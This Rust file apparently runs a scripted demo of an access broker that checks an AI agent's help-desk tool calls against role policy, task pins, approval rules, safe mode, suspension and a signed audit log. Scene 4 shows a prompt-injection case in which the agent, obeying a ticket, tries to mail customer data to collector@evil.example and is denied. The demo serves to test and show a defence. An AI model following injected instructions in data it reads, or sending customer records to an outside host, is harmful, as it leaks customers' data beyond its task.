//! The scenes. Each one checks what it shows: a demo that tells another story than the broker fails.

use serde_json::{Value, json};

use super::{
    agent::Agent,
    stage::{AGENT, Stage},
    story::{Mark, Story},
};
use crate::{
    commands::audit,
    exit::{Exit, Failure},
};

/// Plays all scenes in order.
pub(crate) async fn play(stage: &Stage, story: &Story<'_>) -> Result<(), Failure> {
    let mut agent = Agent::connect(stage, None).await?;
    reads(&mut agent, story).await?;
    lists(&mut agent, story).await?;
    deletes(&mut agent, story).await?;
    hijacked(stage, story).await?;
    bulk(&mut agent, story).await?;
    safe_mode(stage, &mut agent, story).await?;
    suspended(stage, &mut agent, story).await?;
    proof(stage, story).await
}

async fn reads(agent: &mut Agent, story: &Story<'_>) -> Result<(), Failure> {
    story.scene(1, "An allowed read", "The role `support` permits it; the intent is on disk before the call goes out.");
    story.tries("read_ticket T-1");
    let result = agent.call("read_ticket", json!({"id": "T-1"})).await?;
    let subject = result.pointer("/structuredContent/subject").and_then(Value::as_str);
    let subject = subject.ok_or_else(|| off_script("the ticket was not read", &result))?;
    story.ends(Mark::Allowed, &format!("\"{subject}\""));
    Ok(())
}

async fn lists(agent: &mut Agent, story: &Story<'_>) -> Result<(), Failure> {
    story.scene(
        2,
        "A trimmed tool list",
        "The agent is shown what some call of its could be allowed for, by the same policy.",
    );
    let tools = agent.tools().await?;
    if tools.iter().any(|tool| tool == "delete_ticket" || tool == "export_customers") || tools.len() != 5 {
        return Err(off_script("the list is not the role's", &json!(tools)));
    }
    story.tries("tools/list");
    story.ends(Mark::Allowed, &format!("5 of 7 tools: {}", tools.join(", ")));
    story.says("hidden: delete_ticket, export_customers (which claims `readOnlyHint: true`; nobody believes it)");
    Ok(())
}

async fn deletes(agent: &mut Agent, story: &Story<'_>) -> Result<(), Failure> {
    story.scene(
        3,
        "A denied delete",
        "Not being shown a tool is no protection. Calling it all the same is denied, with what would help.",
    );
    story.tries("delete_ticket T-1");
    denied(story, &agent.call("delete_ticket", json!({"id": "T-1"})).await?, "forbidden", Mark::Denied)
}

async fn hijacked(stage: &Stage, story: &Story<'_>) -> Result<(), Failure> {
    story.scene(
        4,
        "A hijacked agent",
        "Its task is to answer T-2, so mail may go to that customer alone. The ticket carries an injected instruction.",
    );
    let task = stage
        .door
        .change(
            "/api/v1/tasks",
            &json!({
                "agent": AGENT, "purpose": "Answer ticket T-2", "prompt": "Please answer ticket T-2 from Noor Haddad.",
                "tools": [
                    {"action": "helpdesk.read_ticket", "pins": {"id": {"one_of": ["T-2"]}}},
                    {"action": "helpdesk.send_mail", "pins": {"to": {"one_of": ["noor@haddad.example"]}}},
                ],
            }),
        )
        .await?;
    let id = task.get("id").and_then(Value::as_str).unwrap_or_default().to_owned();
    let mut agent = Agent::connect(stage, Some(id.clone())).await?;
    story.tries("read_ticket T-2");
    let ticket = agent.call("read_ticket", json!({"id": "T-2"})).await?;
    let body = ticket.pointer("/structuredContent/body").and_then(Value::as_str).unwrap_or_default();
    story.ends(Mark::Allowed, &format!("\"{}…\"", body.chars().take(88).collect::<String>()));
    story.tries("(obeying the ticket) send_mail to collector@evil.example");
    let stolen = json!({"to": "collector@evil.example", "subject": "customers", "body": "…"});
    denied(story, &agent.call("send_mail", stolen).await?, "task_pin", Mark::Denied)?;
    story.tries("send_mail to noor@haddad.example");
    let answer = json!({"to": "noor@haddad.example", "subject": "Your login", "body": "Please reset your password."});
    let sent = agent.call("send_mail", answer).await?;
    if sent.pointer("/structuredContent/sent").is_none() {
        return Err(off_script("the honest mail was not sent", &sent));
    }
    story.ends(Mark::Allowed, "the work that the task is for goes on");
    stage.door.change(&format!("/api/v1/tasks/{id}/end"), &json!({"reason": "answered"})).await?;
    Ok(())
}

async fn bulk(agent: &mut Agent, story: &Story<'_>) -> Result<(), Failure> {
    story.scene(5, "A bulk call", "More than 100 records: a rule that a person can lift for this one call says so.");
    let ids: Vec<String> = (0..240).map(|number| format!("T-{}", 1_000 + number)).collect();
    story.tries("close_tickets, 240 of them");
    denied(story, &agent.call("close_tickets", json!({"ids": ids})).await?, "approval_required", Mark::Asks)
}

async fn safe_mode(stage: &Stage, agent: &mut Agent, story: &Story<'_>) -> Result<(), Failure> {
    story.scene(6, "Safe mode", "One command, and everything but reading stops on the very next call.");
    let scope = json!({"scope": "everything", "reason": "something looks wrong"});
    stage.door.change("/api/v1/safe-mode/enter", &scope).await?;
    story.tries("add_note to T-1");
    denied(
        story,
        &agent.call("add_note", json!({"id": "T-1", "text": "called back"})).await?,
        "safe_mode",
        Mark::Denied,
    )?;
    story.tries("read_ticket T-3");
    let read = agent.call("read_ticket", json!({"id": "T-3"})).await?;
    if read.pointer("/structuredContent/id").is_none() {
        return Err(off_script("reading stopped too", &read));
    }
    story.ends(Mark::Allowed, "reading goes on");
    let scope = json!({"scope": "everything", "reason": "it was a drill"});
    stage.door.change("/api/v1/safe-mode/lift", &scope).await?;
    Ok(())
}

async fn suspended(stage: &Stage, agent: &mut Agent, story: &Story<'_>) -> Result<(), Failure> {
    story.scene(7, "A suspended agent", "Its token has minutes to live; that does not help it.");
    let why = json!({"reason": "its owner wants to look into scene 4"});
    stage.door.change(&format!("/api/v1/agents/{AGENT}/suspend"), &why).await?;
    story.tries("read_ticket T-1");
    match agent.call("read_ticket", json!({"id": "T-1"})).await {
        Ok(result) => denied(story, &result, "principal_inactive", Mark::Denied),
        Err(failure) if failure.exit == Exit::Denied => {
            story.ends(Mark::Denied, &failure.message);
            Ok(())
        }
        Err(failure) => Err(failure),
    }
}

async fn proof(stage: &Stage, story: &Story<'_>) -> Result<(), Failure> {
    story.scene(8, "The proof", "Every decision is in one signed Merkle log, verified here with its public key alone.");
    let export = stage.folder.join("evidence.jsonl");
    audit::export_to(&stage.door, &export).await?;
    let verified = audit::verify_export(&export, &stage.folder.join("keys/log.vkey"))?;
    if !verified.findings.is_empty() {
        return Err(Failure::new("the evidence does not verify").exit(Exit::IntegrityFailed));
    }
    story.ends(
        Mark::Allowed,
        &format!("{} entries, gap-free, under {} signed checkpoints", verified.entries, verified.checkpoints),
    );
    let arrived = calls_that_arrived(&stage.database)?;
    story.says(&format!(
        "{} calls were permitted, {} refused; {arrived} arrived at the help desk, each with its intent recorded first",
        verified.intents, verified.denials
    ));
    if arrived != verified.intents {
        return Err(Failure::new("calls arrived that the evidence does not know").exit(Exit::IntegrityFailed));
    }
    Ok(())
}

fn calls_that_arrived(database: &std::path::Path) -> Result<u64, Failure> {
    let connection = rusqlite::Connection::open_with_flags(database, rusqlite::OpenFlags::SQLITE_OPEN_READ_ONLY)
        .map_err(|error| Failure::file(database, &error))?;
    let count: i64 = connection
        .query_row("SELECT count(*) FROM call", [], |row| row.get(0))
        .map_err(|error| Failure::file(database, &error))?;
    Ok(u64::try_from(count).unwrap_or(0))
}

/// Shows a denial, and makes sure that it is the expected one.
fn denied(story: &Story<'_>, result: &Value, code: &str, mark: Mark) -> Result<(), Failure> {
    let denial = result.pointer("/_meta/bailiwick~1denial").or_else(|| result.get("structuredContent"));
    let reason = denial.and_then(|denial| denial.pointer("/reasons/0"));
    let text = |name: &str| reason.and_then(|reason| reason.get(name)).and_then(Value::as_str);
    if text("code") != Some(code) {
        return Err(off_script(&format!("expected a denial `{code}`"), result));
    }
    let rule = text("rule").map(|rule| format!(" (rule `{rule}`)")).unwrap_or_default();
    story.ends(mark, &format!("{}{rule}", text("message").unwrap_or_default()));
    if let Some(help) = text("help") {
        story.says(&format!("what would help: {help}"));
    }
    if let Some(id) = denial.and_then(|denial| denial.get("evaluation_id")).and_then(Value::as_str) {
        story.says(&format!("decision {id}"));
    }
    Ok(())
}

fn off_script(what: &str, got: &Value) -> Failure {
    Failure::new(format!("the demo went off script: {what}: {got}"))
}
